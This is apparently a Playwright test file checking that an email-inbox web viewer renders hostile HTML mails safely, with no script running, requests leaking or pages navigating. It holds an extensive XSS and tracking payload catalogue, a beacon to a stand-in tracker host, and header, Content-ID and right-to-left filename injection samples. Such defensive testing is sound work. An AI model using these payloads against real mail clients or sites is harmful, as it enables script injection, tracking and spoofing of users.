/**
 * Mails that mean harm, looked at in a real browser: in the page, as a document of their own, and through Mailpit's paths. Nothing of them
 * runs, nobody is asked for anything, and no page goes anywhere.
 */

import type { BrowserContext, Page } from '@playwright/test';
import { startInbox, type InboxServer } from 'smtpd-inbox';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';

import { useHeadlessShell } from '../support/chromium.js';
import { htmlMail, mailOfParts, putMail, startStranger, useBrowser, type Stranger } from './support.js';

/** Stands at the beginning of each mail: nothing in it can swallow that. */
const BEGIN = '<p id="begin">It begins.</p>';

/** What each mail does, `URL` being the stranger's and `RUN` something that would be noticed if it ran. */
const HOSTILE: Readonly<Record<string, string>> = {
  scripts: `<script>RUN</script><script src="URL/a.js"></script><script type=module>RUN</script><SCRIPT\n>RUN</SCRIPT\n>
    <scr<script>ipt>RUN</script><noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>`,
  events: `<img src=x onerror="RUN"><svg/onload="RUN"><body onload="RUN" onpageshow="RUN"><input autofocus onfocus="RUN">
    <details open ontoggle="RUN"><summary>a</summary></details><video onloadstart="RUN"><source onerror="RUN"></video>
    <marquee onstart="RUN">a</marquee><style onload="RUN"></style><img src=x oNeRrOr
    ="RUN"><img/src=x/onerror="RUN"><div style="animation:x 1s" onanimationstart="RUN">a</div><style>@keyframes x{}</style>`,
  'links that run': `<a id="go" href="javascript:RUN">a</a><a href="&#106;avascript:RUN">b</a><a href=" &#1;java&#10;script:RUN">c</a>
    <a href="data:text/html,<script>RUN</script>">d</a><a href="vbscript:RUN">e</a><a href="blob:x">f</a><a href="filesystem:x">g</a>
    <svg><a xlink:href="javascript:RUN"><text y=20>h</text></a></svg><math><mtext href="javascript:RUN">i</mtext></math>
    <map name=m><area href="javascript:RUN" coords=0,0,9,9></map>`,
  refreshes: `<meta http-equiv="refresh" content="0;url=URL/refresh"><meta http-equiv=REFRESH content="0;url=javascript:RUN">
    <meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
  'a base': `<base href="URL/" target="_top"><img src="base.gif"><a href="x">a</a>`,
  forms: `<form id=f action="URL/form" method=post target=_top><input name=a value=b><button id="go" formaction="URL/button">a</button>
    <input type=image src="URL/image.gif"></form><button form=f formtarget=_top>b</button><isindex action="URL/isindex">`,
  SVG: `<svg><script>RUN</script><script href="data:text/javascript,RUN"/><image href="URL/a.gif" /><use href="URL/a.svg#a" />
    <foreignObject><iframe src="javascript:RUN"></iframe></foreignObject><animate attributeName=href values="javascript:RUN" />
    <set attributeName=onmouseover to=RUN /><feImage href="URL/b.gif" /><style>@import "URL/c.css"; a{fill:url(URL/d.svg#x)}</style></svg>`,
  'MathML and what changes its meaning': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">
    </mglyph></table></mtext></math><svg></p><style><a title="</style><img src=x onerror=RUN>">`,
  'style sheets': `<style>@import "URL/a.css";@import url(URL/b.css);@import/**/"URL/c.css";body{background:url(URL/d.gif)}
    p{background:image-set("URL/e.gif" 1x);list-style:url('URL/f.gif');cursor:url(URL/g.gif),auto}
    @font-face{font-family:x;src:url(URL/h.woff2)}*{font-family:x}p::after{content:url(URL/i.gif)}a{background:\\75 rl(URL/j.gif)}
    input[value^="a"]{background:url(URL/k.gif)}p{mask:url(URL/l.svg);filter:url(URL/m.svg#f);border-image:url(URL/n.gif) 1}</style>
    <p style="background:url(URL/o.gif);-webkit-mask-image:url(URL/p.gif)">a</p><link rel=stylesheet href="URL/q.css">
    <style>p{behavior:url(URL/r.htc);-moz-binding:url(URL/s.xml#x);width:expression(RUN)}</style><link rel=import href="URL/t.html">`,
  objects: `<object data="URL/a.swf"></object><object data="data:text/html,<script>RUN</script>"></object><embed src="URL/b.swf">
    <applet code="URL/c.class"></applet><param name=movie value="URL/d.swf"><portal src="URL/e.html"></portal><fencedframe src="URL/f"></fencedframe>`,
  'names to be looked up': `<link rel=dns-prefetch href="URL/"><link rel=preconnect href="URL/"><link rel=preload as=image href="URL/a.gif">
    <link rel=prefetch href="URL/b"><link rel=prerender href="URL/c"><link rel=modulepreload href="URL/d.js"><link rel=icon href="URL/e.ico">
    <link rel=manifest href="URL/f.json"><link rel="alternate stylesheet" href="URL/g.css"><meta http-equiv=x-dns-prefetch-control content=on>
    <script type=speculationrules>{"prefetch":[{"source":"list","urls":["URL/h"]}]}</script><a href="URL/i">a</a>`,
  frames: `<iframe src="URL/a.html"></iframe><iframe srcdoc="<script>RUN</script><img src='URL/b.gif'>"></iframe>
    <frameset><frame src="URL/c.html"></frameset><iframe src="javascript:RUN"></iframe><iframe src="/"></iframe>`,
  pictures: `<img src="URL/a.gif"><img srcset="URL/b.gif 1x, URL/c.gif 2x"><picture><source srcset="URL/d.gif"><img></picture>
    <table background="URL/e.gif"><td background="URL/f.gif"></table><body background="URL/g.gif"><video poster="URL/h.gif" src="URL/i.mp4">
    </video><audio src="URL/j.mp3" autoplay></audio><track src="URL/k.vtt"><img lowsrc="URL/l.gif" dynsrc="URL/m.avi"><input type=image src="URL/n.gif">
    <img src="//HOST/o.gif"><img src="\\\\HOST\\p.gif"><img src="ht&#9;tp://HOST/q.gif"><bgsound src="URL/r.wav"><image src="URL/s.gif">`,
  'pings and reports': `<a href="URL/a" ping="URL/b" id="ping">a</a><img src="URL/c.gif" attributionsrc="URL/d"><a href="#begin" ping="URL/e">b</a>`,
  'links to the top': `<a id="go" href="#begin" target=_top>a</a><a href="javascript:top.location='URL/top'" target=_top>b</a>`,
  'what closes what is around it': `</p></body></html></iframe><script>RUN</script>"><script>RUN</script>--><script>RUN</script>
    </style></title></textarea></template><img src=x onerror=RUN>`,
  'comments for old programs': `<!--[if gte IE 4]><script>RUN</script><![endif]--><![if !mso]><script>RUN</script><![endif]><!--><img src=x onerror=RUN>-->
    <!--><script>RUN</script>--><!-- --!><script>RUN</script>--><?xml-stylesheet href="URL/a.css"?><![CDATA[<script>RUN</script>]]>`,
  'text that is never closed': `<plaintext><script>RUN</script>`,
  'elements that hide others': `<template><img src=x onerror=RUN></template><template shadowrootmode=open><style>@import "URL/a.css"</style>
    <img src="URL/b.gif" onerror=RUN></template><select><iframe><script>RUN</script></select><xmp><script>RUN</script></xmp><title><script>RUN</script></title>`,
  'popovers and things that are pressed': `<button popovertarget=x onclick=RUN id="go">a</button><div popover id=x onbeforetoggle=RUN>b</div>
    <p accesskey=x onclick=RUN>c</p><a href="#begin" download>d</a><p contenteditable onfocus=RUN>e</p>`,
  'the names of what the page uses': `<form name=document><input name=cookie><input name=body></form><img name=location id=top><a id=self href="URL/a">a</a>`,
};

/**
 * What the browser does before and around the page: it looks names up, loads ahead, sends pings and reports, opens other pages. These are
 * looked at in all of Chromium, the others in what loads and draws its pages, which takes half the time.
 */
const NEEDS_BROWSER: ReadonlySet<string> = new Set([
  'refreshes',
  'forms',
  'names to be looked up',
  'frames',
  'pings and reports',
  'links to the top',
]);

describe('a mail that means harm', () => {
  let inbox: InboxServer;
  let stranger: Stranger;
  let context: BrowserContext;
  const openBrowser = useBrowser();
  const openShell = useBrowser(useHeadlessShell);
  const ids = new Map<string, string>();
  /** Dialogs. */
  let noticed: string[];
  /** How many connections and requests the stranger had had before a test. */
  let before: { readonly connections: number; readonly asked: number };

  beforeAll(async () => {
    stranger = await startStranger();
    inbox = await startInbox({ smtp: '127.0.0.1:0', http: '127.0.0.1:0', mailpit: '127.0.0.1:0' });
    for (const [name, html] of Object.entries(HOSTILE))
      ids.set(name, await putMail(inbox, htmlMail(BEGIN + armed(html))));
  });
  afterAll(async () => {
    await inbox.close();
    await stranger[Symbol.asyncDispose]();
  });
  beforeEach(() => {
    noticed = [];
    before = { connections: stranger.connections(), asked: stranger.asked.length };
  });
  afterEach(() => context.close());

  async function begin(open: () => Promise<BrowserContext>): Promise<void> {
    context = await open();
    context.on('dialog', (dialog) => {
      noticed.push(dialog.message());
      void dialog.dismiss();
    });
  }

  function armed(html: string): string {
    const host = `tracker.example:${String(stranger.port)}`;
    const run = `alert(1);top.ran=1;new Image().src='http://${host}/ran.gif'`;
    // In an attribute without quotes it stands in one word.
    return html.replaceAll('RUN', run).replaceAll('URL', `http://${host}`).replaceAll('HOST', host);
  }

  /** Opens the mail in the page, and waits until its HTML stands there. */
  async function show(id: string): Promise<Page> {
    const page = await context.newPage();
    await page.goto(`${inbox.url ?? ''}#/message/${id}/html`);
    await page.frameLocator('iframe.msg-frame').locator('#begin').waitFor();
    await page.frames()[1]?.waitForLoadState();
    return page;
  }

  /** A name that is only connected to tells its owner something, too. */
  function expectNobodyAsked(): void {
    expect(stranger.asked.slice(before.asked)).toEqual([]);
    expect(stranger.connections()).toBe(before.connections);
  }

  /** Nothing has happened. */
  async function expectQuiet(page: Page, url: string): Promise<void> {
    // What a document does when it is drawn, it has done.
    await page.screenshot();
    expect(noticed).toEqual([]);
    expectNobodyAsked();
    expect(page.url()).toBe(url);
    expect(context.pages()).toEqual([page]);
    expect(await page.evaluate(() => (globalThis as { ran?: unknown }).ran)).toBeUndefined();
  }

  it.each(Object.keys(HOSTILE))('with %s is shown, and nothing happens', async (name) => {
    await begin(NEEDS_BROWSER.has(name) ? openBrowser : openShell);
    const id = ids.get(name) ?? '';
    const page = await show(id);
    const address = page.url();
    const frame = page.frames()[1];
    expect(page.frames().length).toBe(2);
    // What is pressed in it does nothing either, unless it is a link elsewhere.
    const pressed = page.frameLocator('iframe.msg-frame').locator('#go');
    if ((await pressed.count()) > 0) await pressed.first().click({ force: true });
    await expectQuiet(page, address);
    expect(page.frames()[1]).toBe(frame);
    // Somebody opens the document by itself: it is no more than it was in the frame.
    for (const url of [
      `${inbox.url ?? ''}api/v1/messages/${id}/html`,
      `${inbox.compatibilityURLs['mailpit'] ?? ''}view/${id}.html`,
    ]) {
      await page.goto(url);
      await page.locator('#begin').waitFor();
      expect(await page.evaluate(() => self.origin)).toBe('null');
      await expectQuiet(page, url);
    }
  });

  it('runs nothing when its remote pictures were asked for: those come, and no more', async () => {
    await begin(openBrowser);
    const id = ids.get('pictures') ?? '';
    const page = await show(id);
    const address = page.url();
    await page.getByRole('button', { name: 'Load for this message' }).click();
    await expect.poll(() => stranger.asked.length - before.asked).toBeGreaterThan(3);
    expect(noticed).toEqual([]);
    expect(page.url()).toBe(address);
    expect(stranger.asked.slice(before.asked).filter((each) => each.includes('ran'))).toEqual([]);
    for (const name of ['scripts', 'events', 'SVG', 'frames', 'objects', 'forms', 'refreshes']) {
      await page.goto(`${inbox.url ?? ''}api/v1/messages/${ids.get(name) ?? ''}/html?remote=true`);
      await page.locator('#begin').waitFor();
    }
    expect(noticed).toEqual([]);
    expect(stranger.asked.filter((each) => /ran|\.js|\.html|\.swf|form|button|refresh/.test(each))).toEqual([]);
  });

  it('opens a link in a page of its own, which knows nothing of ours', async () => {
    await begin(openBrowser);
    const page = await show(ids.get('pings and reports') ?? '');
    const [opened] = await Promise.all([
      context.waitForEvent('page'),
      page.frameLocator('iframe.msg-frame').locator('#ping').click(),
    ]);
    await opened.waitForLoadState();
    expect(await opened.evaluate(() => [window.opener as unknown, document.referrer])).toEqual([null, '']);
    // No ping, and nothing but what was clicked and a page's icon.
    expect(stranger.asked.slice(before.asked).filter((each) => each !== 'GET /favicon.ico')).toEqual(['GET /a']);
  });

  it('cannot write the policy of its frame by what its parts are called', async () => {
    await begin(openBrowser);
    const id = await putMail(
      inbox,
      mailOfParts([
        {
          header: ['Content-Type: text/html'],
          content: armed(`${BEGIN}<img src="cid:a; script-src * 'unsafe-inline'"><img src='cid:x"onerror="RUN'>
            <img src="cid:%3Cb%3E&quot; onerror=RUN"><p style="background:url(cid:c&quot;);x:url(URL/a.gif)">x</p><script>RUN</script>`),
        },
        ...["a; script-src * 'unsafe-inline'", 'x"onerror="alert(1)', 'c");x:url(http://b.example'].map(
          (contentId) => ({
            header: [
              `Content-ID: <${contentId}>`,
              'Content-Type: image/png; script-src *',
              `Content-Location: javascript:alert(1)`,
            ],
            content: 'x',
          }),
        ),
      ]),
    );
    const page = await show(id);
    await page.screenshot();
    expect(noticed).toEqual([]);
    expectNobodyAsked();
    const response = await context.request.get(`${inbox.url ?? ''}api/v1/messages/${id}/html`);
    expect(response.headers()['content-security-policy']).not.toMatch(/unsafe-inline'(?!;)|script-src (?!'none')|\*/);
  });

  it('has its markup shown as text wherever the page tells of it', async () => {
    await begin(openBrowser);
    const markup = armed('<img src=x onerror="RUN"><script>RUN</script>"\'><svg onload=RUN>');
    const id = await putMail(
      inbox,
      [
        `From: "${markup.replaceAll('"', '\\"')}" <eve@evil.example>`,
        `To: ${markup}`,
        `Subject: ${markup}`,
        `Message-ID: <${markup}>`,
        `List-Unsubscribe: <javascript:alert(1)>`,
        `X-<b>: ${markup}`,
        'MIME-Version: 1.0',
        'Content-Type: multipart/mixed; boundary=m',
        '',
        '--m',
        `Content-Type: text/plain; charset="<img/src=x/onerror=alert(1)>"`,
        '',
        markup,
        'javascript:alert(1) http://evil.example/"onmouseover="alert(1)',
        '--m',
        'Content-Type: text/html',
        '',
        `${BEGIN}<p>${markup}</p>`,
        '--m',
        `Content-Type: <svg/onload=alert(1)>; name="<img src=x onerror=alert(1)>.svg"`,
        'Content-Disposition: attachment; filename="<img src=x onerror=alert(1)>.html"',
        `Content-ID: <"><img src=x onerror=alert(1)>>`,
        '',
        markup,
        '--m--',
        '',
      ].join('\r\n'),
    );
    const page = await show(id);
    for (const tab of [
      'text',
      'source',
      'headers',
      'raw',
      'parts',
      'attachments',
      'session',
      'envelope',
      'checks',
      'difference',
      'html',
    ]) {
      await page.evaluate(([place, name]) => (location.hash = `#/message/${place ?? ''}/${name ?? ''}`), [id, tab]);
      await page.locator(`#tab-${tab}[aria-selected="true"]`).waitFor();
      await page.locator('.msg-waiting').waitFor({ state: 'detached' });
      expect([
        tab,
        await page.locator('img[src="x"], script:not([src]), svg[onload], [onerror], [onload]').count(),
      ]).toEqual([tab, 0]);
      const schemes = await page
        .locator('a[href]')
        .evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).protocol));
      expect(schemes.filter((scheme) => !['http:', 'https:'].includes(scheme))).toEqual([]);
    }
    expect(noticed).toEqual([]);
    expectNobodyAsked();
    expect(await page.evaluate(() => (globalThis as { ran?: unknown }).ran)).toBeUndefined();
  });

  it('whose subject turns the direction of reading turns that of nothing else', async () => {
    await begin(openBrowser);
    const rightToLeft = '\u202e';
    await putMail(inbox, `From: eve@evil.example\r\nSubject: =?utf-8?Q?=E2=80=AE_txt.exe?=\r\n\r\nx\r\n`);
    const page = await context.newPage();
    await page.goto(inbox.url ?? '');
    const row = page.locator('#mail-list [role=option]').filter({ hasText: 'txt.exe' });
    await row.waitFor();
    // What stands beside the subject keeps its order: the subject is isolated, or has lost what turns it.
    const isContained = await row.evaluate((element, sign) => {
      const walker = document.createTreeWalker(element, NodeFilter.SHOW_TEXT);
      for (let node = walker.nextNode(); node !== null; node = walker.nextNode()) {
        if (node.textContent?.includes(sign) !== true) continue;
        const { unicodeBidi, display } = getComputedStyle(node.parentElement!);
        if (!/isolate|plaintext/.test(unicodeBidi) && display === 'inline') return false;
      }
      return true;
    }, rightToLeft);
    expect(isContained).toBe(true);
  });
});
